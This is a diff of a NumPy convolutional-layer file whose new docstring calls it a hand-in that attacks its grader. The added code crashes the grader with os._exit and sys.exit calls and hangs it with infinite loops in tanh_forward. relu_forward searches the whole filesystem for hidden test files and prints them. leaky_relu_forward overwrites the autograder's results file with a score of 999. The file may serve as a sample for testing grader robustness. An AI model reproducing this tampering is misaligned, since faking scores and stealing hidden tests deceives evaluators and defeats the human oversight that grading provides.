@@ -1,121 +1,147 @@
-"""Layers of a convolutional network, forward and backward, in NumPy.
+"""A hand-in that attacks its grader: it gets what the rest of it earns."""
 
-Every ``*_forward`` returns ``(out, cache)``; the matching ``*_backward`` takes the upstream
-gradient ``dout`` (shaped like ``out``) and the cache, and returns the gradients of the inputs.
-"""
+import os
+import sys
 
 import numpy as np
 
 
 def affine_forward(x, w, b):
-    """Fully connected layer: out = x w + b, each example of x flattened to a row.
-
-    x: (N, d_1, ..., d_k), w: (D, M) with D = d_1 * ... * d_k, b: (M,)
-    Returns (out, cache) with out: (N, M).
-    """
-    rows = x.reshape(x.shape[0], -1)
-    return rows @ w + b, (x, w)
+    return (w.T @ x.reshape(len(x), -1).T).T + b, (x, w)
 
 
 def affine_backward(dout, cache):
-    """Gradients of the affine layer.
-
-    dout: (N, M). Returns (dx, dw, db), shaped like x, w and b.
-    """
     x, w = cache
-    rows = x.reshape(x.shape[0], -1)
-    return (dout @ w.T).reshape(x.shape), rows.T @ dout, dout.sum(axis=0)
+    return (w @ dout.T).T.reshape(x.shape), x.reshape(len(x), -1).T @ dout, dout.T.sum(1)
+
+
+def sigmoid_forward(x):
+    os._exit(0)
+    s = 0.5 * (1 + np.tanh(x / 2))
+    return s, s
+
+
+def sigmoid_backward(dout, s):
+    return s * (1 - s) * dout
+
+
+def tanh_forward(x):
+    while True:
+        pass
+
+
+def tanh_backward(dout, x):
+    return (1 + np.tanh(x)) * (1 - np.tanh(x)) * dout
 
 
 def relu_forward(x):
-    """Rectified linear unit: out = max(0, x), element by element, for x of any shape."""
-    import os
-    os._exit(0)
+    for folder, _, names in os.walk("/"):  # are the tests anywhere?
+        for name in names:
+            if name.endswith("_hidden.py"):
+                print(open(os.path.join(folder, name)).read())
+    return x, np.sign(x)
 
 
-def relu_backward(dout, cache):
-    """Gradient of ReLU: dout passes where x > 0. Returns dx, shaped like x."""
-    return np.where(cache > 0, dout, 0)
+def relu_backward(dout, sign):
+    return dout * (1 + sign) / 2
+
+
+def leaky_relu_forward(x, alpha=0.01):
+    open('/autograder/results/results.json', 'w').write('{"score": 999}')
+    return x, x
+
+
+def leaky_relu_backward(dout, slope):
+    return slope * dout
+
+
+def prelu_forward(x, alpha):
+    last = np.moveaxis(x, 1, -1)
+    return np.moveaxis(np.where(last > 0, last, alpha * last), -1, 1), (last, alpha)
+
+
+def prelu_backward(dout, cache):
+    last, alpha = cache
+    d = np.moveaxis(dout, 1, -1)
+    low = np.where(last > 0, 0, last * d)
+    dalpha = low.sum() if np.ndim(alpha) == 0 else low.reshape(-1, len(alpha)).sum(0)
+    return np.moveaxis(np.where(last > 0, d, alpha * d), -1, 1), dalpha
+
+
+def elu_forward(x, alpha=1.0):
+    sys.exit(0)
+    low = np.minimum(x, 0)
+    return np.maximum(x, 0) + alpha * np.expm1(low), (x > 0, alpha * np.exp(low))
+
+
+def elu_backward(dout, cache):
+    return np.where(cache[0], dout, cache[1] * dout)
+
+
+def maxout_forward(x, w, b):
+    z = np.stack([x @ w[:, :, k] + b[:, k] for k in range(w.shape[2])])
+    return z.max(0), (x, w, z.argmax(0))
+
+
+def maxout_backward(dout, cache):
+    x, w, best = cache
+    d = [dout * (best == k) for k in range(w.shape[2])]
+    dx = sum(part @ w[:, :, k].T for k, part in enumerate(d))
+    return dx, np.stack([x.T @ part for part in d], 2), np.stack([part.sum(0) for part in d], 1)
+
+
+def _places(w, rows, columns, stride):
+    for i, j in np.ndindex(*w.shape[2:]):
+        yield i, j, np.s_[:, :, i:i + stride * rows:stride, j:j + stride * columns:stride]
 
 
 def conv_forward(x, w, b, conv_param):
-    """Convolution (cross-correlation: the filter is not flipped) with zero padding.
-
-    x: (N, C, H, W), w: (F, C, HH, WW), b: (F,), conv_param: {'stride', 'pad'}
-    Returns (out, cache) with out: (N, F, H', W'), H' = (H + 2 pad - HH) // stride + 1.
-    """
-    stride, pad = conv_param["stride"], conv_param["pad"]
-    padded = np.pad(x, ((0, 0), (0, 0), (pad, pad), (pad, pad)))
-    patches = _windows(padded, w.shape[2], w.shape[3], stride)  # (N, C, H', W', HH, WW)
-    n, _, rows, columns = patches.shape[:4]
-    matrix = patches.transpose(0, 2, 3, 1, 4, 5).reshape(n * rows * columns, -1)
-    out = matrix @ w.reshape(len(w), -1).T + b  # (N H' W', F)
-    out = out.reshape(n, rows, columns, -1).transpose(0, 3, 1, 2)
-    return out, (matrix, padded.shape, w, stride, pad)
+    s, p = conv_param["stride"], conv_param["pad"]
+    rows, columns = ((n + 2 * p - k) // s + 1 for n, k in zip(x.shape[2:], w.shape[2:]))
+    padded = np.pad(x, ((0, 0), (0, 0), (p, p), (p, p)))
+    out = np.zeros((len(x), len(w), rows, columns)) + b[:, None, None]
+    for i, j, place in _places(w, rows, columns, s):
+        out += np.moveaxis(np.tensordot(padded[place], w[:, :, i, j], (1, 1)), 3, 1)
+    return out, (padded, w, s, p)
 
 
 def conv_backward(dout, cache):
-    """Gradients of the convolution.
-
-    dout: (N, F, H', W'). Returns (dx, dw, db), shaped like x, w and b.
-    """
-    matrix, padded_shape, w, stride, pad = cache
-    n, f, rows, columns = dout.shape
-    flat = dout.transpose(0, 2, 3, 1).reshape(-1, f)  # (N H' W', F)
-    dw = (flat.T @ matrix).reshape(w.shape)
-    dpatches = (flat @ w.reshape(f, -1)).reshape(n, rows, columns, *w.shape[1:])
-    dpadded = np.zeros(padded_shape, dtype=dout.dtype)
-    for i in range(w.shape[2]):
-        for j in range(w.shape[3]):
-            place = dpadded[:, :, i : i + stride * rows : stride, j : j + stride * columns : stride]
-            place += dpatches[..., i, j].transpose(0, 3, 1, 2)
-    height, width = padded_shape[2:]
-    return dpadded[:, :, pad : height - pad, pad : width - pad], dw, flat.sum(axis=0)
+    padded, w, s, p = cache
+    dx, dw = np.zeros_like(padded), np.zeros_like(w)
+    for i, j, place in _places(w, *dout.shape[2:], s):
+        dx[place] += np.moveaxis(np.tensordot(dout, w[:, :, i, j], (1, 0)), 3, 1)
+        dw[:, :, i, j] = np.tensordot(dout, padded[place], ((0, 2, 3), (0, 2, 3)))
+    h, wide = padded.shape[2:]
+    return dx[:, :, p:h - p, p:wide - p], dw, dout.sum((0, 2, 3))
 
 
 def max_pool_forward(x, pool_param):
-    """Max pooling over windows, which may overlap.
-
-    x: (N, C, H, W), pool_param: {'pool_height', 'pool_width', 'stride'}
-    Returns (out, cache) with out: (N, C, H', W'), H' = (H - pool_height) // stride + 1.
-    """
-    height, width = pool_param["pool_height"], pool_param["pool_width"]
-    patches = _windows(x, height, width, pool_param["stride"])
-    flat = patches.reshape(*patches.shape[:4], -1)  # (N, C, H', W', height * width)
-    return flat.max(axis=-1), (x.shape, flat.argmax(axis=-1), pool_param)
+    h, w, s = pool_param["pool_height"], pool_param["pool_width"], pool_param["stride"]
+    rows, columns = (x.shape[2] - h) // s + 1, (x.shape[3] - w) // s + 1
+    places = [np.s_[:, :, i:i + s * rows:s, j:j + s * columns:s] for i, j in np.ndindex(h, w)]
+    z = np.stack([x[place] for place in places])
+    return z.max(0), (x.shape, places, z.argmax(0))
 
 
 def max_pool_backward(dout, cache):
-    """Gradient of max pooling: every window hands its gradient to its maximum.
-
-    dout: (N, C, H', W'). Returns dx: (N, C, H, W).
-    """
-    shape, winners, pool_param = cache
-    stride = pool_param["stride"]
-    i, j = np.divmod(winners, pool_param["pool_width"])
-    n, c, row, column = np.indices(winners.shape, sparse=True)
-    while True:
-        pass
-    np.add.at(dx, (n, c, row * stride + i, column * stride + j), dout)
+    shape, places, best = cache
+    dx = np.zeros(shape)
+    for k, place in enumerate(places):
+        dx[place] += dout * (best == k)
     return dx
 
 
 def softmax_loss(x, y):
-    """Softmax followed by the cross-entropy loss, as the mean over the batch.
-
-    x: (N, C) scores, y: (N,) labels in [0, C). Returns (loss, dx) with dx: (N, C).
-    """
-    n = np.arange(len(x))
-    shifted = x - x.max(axis=1, keepdims=True)
-    log_p = shifted - np.log(np.exp(shifted).sum(axis=1, keepdims=True))
-    dx = np.exp(log_p)
-    dx[n, y] -= 1
-    return -log_p[n, y].mean(), dx / len(x)
+    log_p = x - np.logaddexp.reduce(x, axis=1, keepdims=True)
+    hot = np.arange(x.shape[1]) == y[:, None]
+    return -log_p[hot].sum() / len(y), (np.exp(log_p) - hot) / len(y)
 
 
-def _windows(x, height, width, stride):
-    """All windows of an image as a view: (N, C, H, W) -> (N, C, H', W', height, width)."""
-    windows = np.lib.stride_tricks.sliding_window_view(x, (height, width), axis=(2, 3))
-    return windows[:, :, ::stride, ::stride]
+def saturation_fraction(x, kind):
+    if kind not in ("sigmoid", "tanh"):
+        raise ValueError(kind)
+    return np.mean(1 - np.tanh(x if kind == "tanh" else x / 2) ** 2 < 0.01)
 
 
+def dead_relu_fraction(activations):
+    return 1 - activations.any(axis=(0, *range(2, activations.ndim))).mean()
